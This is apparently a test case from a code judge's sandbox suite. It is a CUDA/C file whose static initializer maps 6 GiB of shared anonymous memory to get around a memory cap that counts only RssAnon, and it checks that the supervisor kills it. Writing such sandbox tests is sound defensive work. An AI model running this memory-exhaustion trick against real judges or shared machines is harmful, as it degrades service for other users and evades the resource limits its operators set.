// expect-emu: CE
// expect-jail: RE|TLE
// expect-gpu: CE
// CE wherever nvcc runs: the device-only check refuses its host code
// (docs/trusted-runner.md). Without nvcc (expect-jail) the emulator runs it:
// Hostile: holds ever more memory in MAP_SHARED anonymous pages (shmem,
// not RssAnon), past the 4 GiB the judge allows.
// Stopped by: the supervisor counts RssShmem with RssAnon against the cap
// and kills it: RE (more than ... MiB of host memory). On a loaded machine
// the pages may come in too slowly to pass the cap before the time limit:
// TLE, which is not AC either.

#include <libgen.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* <build>/work/<id>-<pid>/test: the build folder is three levels up. */
static void judge_paths(char *build, char *root)
{
	char exe[PATH_MAX] = "";
	ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
	exe[n > 0 ? n : 0] = '\0';
	char *a = dirname(exe);
	a = dirname(a);
	a = dirname(a);
	snprintf(build, PATH_MAX, "%s", a);
	char tmp[PATH_MAX];
	snprintf(tmp, sizeof tmp, "%s", a);
	snprintf(root, PATH_MAX, "%s", dirname(tmp));
}

static void succeeded(const char *what)
{
	fprintf(stderr, "ATTACK SUCCEEDED: %s\n", what);
	abort();
}

#include <sys/mman.h>

static int attack(void)
{
	size_t size = (size_t)6 << 30; /* past the 4 GiB cap, not far */
	char *p = (char *)mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS |
	                                                               MAP_NORESERVE | MAP_POPULATE,
	                       -1, 0);
	if (p == MAP_FAILED)
		return 0;
	for (size_t i = 0; i < size; i += 4096)
		p[i] = 1;
	succeeded("6 GiB of shared memory held");
	return 0;
}
static int done = attack();

/* The scan itself is left out (each lane returns its own value): WA unless
 * the attack changes the verdict. */
__device__ int warp_inclusive_scan(int v)
{
	return v;
}
